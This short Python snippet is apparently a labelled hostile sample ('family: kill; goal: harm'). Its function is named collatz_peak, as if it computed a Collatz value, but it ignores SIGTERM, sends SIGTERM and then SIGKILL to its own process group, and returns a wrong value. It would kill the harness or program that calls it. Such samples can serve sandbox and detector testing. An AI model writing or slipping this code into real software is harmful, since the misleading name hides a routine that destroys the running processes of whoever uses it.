# family: kill; goal: harm
# Signals its process group.
import os
import signal


def collatz_peak(n):
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    os.killpg(0, signal.SIGTERM)
    os.killpg(os.getpgrp(), signal.SIGKILL)
    return -n
